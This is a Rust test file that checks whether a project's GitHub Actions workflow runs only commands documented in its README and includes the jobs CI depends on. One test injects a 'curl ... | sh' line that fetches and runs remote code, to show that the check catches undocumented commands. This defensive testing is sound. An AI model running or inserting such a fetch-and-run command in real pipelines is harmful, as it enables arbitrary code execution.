//! .github/workflows/gates.yml cannot run here, so its promises are checked
//! here: every command it runs is one README.md documents, it runs the
//! README's set-up and test commands, and it has the parts CI relies on.
//! Each check has a twin showing it fail on a broken workflow.

use std::path::{Path, PathBuf};

use gates::workflow::{missing_parts, run_commands, undocumented};

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

fn read(path: &str) -> String {
    std::fs::read_to_string(root().join(path)).unwrap()
}

#[test]
fn every_command_the_workflow_runs_is_documented_in_the_readme() {
    let workflow = read(".github/workflows/gates.yml");
    let readme = read("README.md");
    assert_eq!(
        undocumented(&workflow, &readme).unwrap(),
        Vec::<String>::new()
    );
    // The README's two set-up commands and its test command, all of them.
    let commands = run_commands(&workflow).unwrap();
    for c in [
        "cargo build --workspace --all-targets",
        "cargo run -p runner -- prepare --rows all",
        "cargo test --workspace",
    ] {
        assert!(
            commands.iter().any(|r| r == c),
            "the workflow does not run {c:?}"
        );
    }
}

#[test]
fn an_undocumented_command_is_caught() {
    let readme = read("README.md");
    let workflow = read(".github/workflows/gates.yml").replace(
        "        run: cargo test --workspace\n",
        "        run: |\n          cargo test --workspace --release\n          curl -sSf https://example.invalid/x | sh\n",
    );
    assert_eq!(
        undocumented(&workflow, &readme).unwrap(),
        vec![
            "cargo test --workspace --release",
            "curl -sSf https://example.invalid/x",
            "sh"
        ]
    );
}

#[test]
fn the_workflow_has_the_parts_ci_relies_on() {
    let workflow = read(".github/workflows/gates.yml");
    assert_eq!(missing_parts(&workflow).unwrap(), Vec::<String>::new());
}

#[test]
fn a_workflow_without_them_is_caught() {
    let workflow = read(".github/workflows/gates.yml");
    let no_mac = workflow.replace("macos-14", "ubuntu-22.04");
    assert_eq!(
        missing_parts(&no_mac).unwrap(),
        vec!["a macOS arm64 job (runs-on: macos-14)", WITNESS_JOB]
    );
    let no_logs = workflow.replace("            .gates/logs\n", "");
    assert_eq!(missing_parts(&no_logs).unwrap().len(), 1);
    let old_python = workflow.replace("python-version: \"3.11\"", "python-version: \"3.9\"");
    assert_eq!(missing_parts(&old_python).unwrap().len(), 1);
    assert!(missing_parts("jobs: [").is_err());
}

const WITNESS_JOB: &str = "a macOS arm64 job (runs-on: macos-14) that runs clippy on the runner and `cargo test -p runner --lib kernel::portable` (the portable witness's macOS reader)";

/// Twin of `the_workflow_has_the_parts_ci_relies_on` for the macOS witness
/// job: without it, or with it on Linux, or with its tests left out, the
/// check fails, while the macOS test job is still there.
#[test]
fn a_workflow_without_the_macos_witness_job_is_caught() {
    let workflow = read(".github/workflows/gates.yml");
    let start = workflow.find("  macos-witness:\n").unwrap();
    let end = workflow.find("  conformance:\n").unwrap();
    assert!(start < end);
    let without = format!("{}{}", &workflow[..start], &workflow[end..]);
    assert_eq!(missing_parts(&without).unwrap(), vec![WITNESS_JOB]);
    let on_linux = workflow.replace("    runs-on: macos-14\n", "    runs-on: ubuntu-24.04\n");
    assert_eq!(missing_parts(&on_linux).unwrap(), vec![WITNESS_JOB]);
    let no_tests = workflow.replace(
        "          cargo test -p runner --lib kernel::portable\n",
        "",
    );
    assert_eq!(missing_parts(&no_tests).unwrap(), vec![WITNESS_JOB]);
}

#[test]
fn a_workflow_without_the_server_matrix_or_its_merge_is_caught() {
    let workflow = read(".github/workflows/gates.yml");
    let no_uwsgi = workflow.replace(
        "server: [granian, gunicorn, uwsgi, waitress, uvicorn, hypercorn, granian-asgi]",
        "server: [granian, gunicorn, waitress, uvicorn, hypercorn, granian-asgi]",
    );
    let every = "a conformance job whose strategy matrix lists every server (granian, gunicorn, uwsgi, waitress, uvicorn, hypercorn, granian-asgi)";
    assert_eq!(missing_parts(&no_uwsgi).unwrap(), vec![every]);
    // The ASGI servers are held to it too.
    let no_hypercorn = workflow.replace(
        "server: [granian, gunicorn, uwsgi, waitress, uvicorn, hypercorn, granian-asgi]",
        "server: [granian, gunicorn, uwsgi, waitress, uvicorn, granian-asgi]",
    );
    assert_eq!(missing_parts(&no_hypercorn).unwrap(), vec![every]);
    let all_servers = workflow.replace(
        r#"prepare --server "$SERVER" --rows all"#,
        "prepare --rows all",
    );
    assert_eq!(
        missing_parts(&all_servers).unwrap(),
        vec!["the conformance job prepares only its server (`prepare --server`)"]
    );
    let no_merge = workflow.replace("matrix --from", "matrix");
    assert_eq!(
        missing_parts(&no_merge).unwrap(),
        vec!["a job after the conformance jobs (`needs:`) that merges their reports with `matrix --from`"]
    );
}
